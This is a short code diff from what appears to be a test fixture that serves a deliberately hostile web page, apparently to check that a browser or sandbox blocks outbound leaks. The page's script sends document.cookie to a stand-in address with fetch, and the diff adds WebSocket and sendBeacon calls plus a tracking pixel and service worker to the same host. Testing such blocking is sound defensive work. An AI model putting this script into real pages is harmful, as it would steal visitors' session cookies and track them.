@@ -62,6 +62,8 @@ def response(body: bytes, kind: str = "text/html; charset=utf-8", *more: str) ->
 _HOSTILE_PAGE = b"""<!doctype html><title>Piege</title><script>
 document.cookie = "vole=1";
 fetch("http://198.51.100.7/fuite?" + document.cookie).catch(() => {});
+try { new WebSocket("ws://198.51.100.7/prise"); } catch {}
+try { navigator.sendBeacon("http://198.51.100.7/balise", "x"); } catch {}
 navigator.serviceWorker && navigator.serviceWorker.register("/memento/x.js").catch(() => {});
 </script><img src="http://198.51.100.7/pixel.png"><p>Bonjour.</p>"""
 EXCHANGES = (
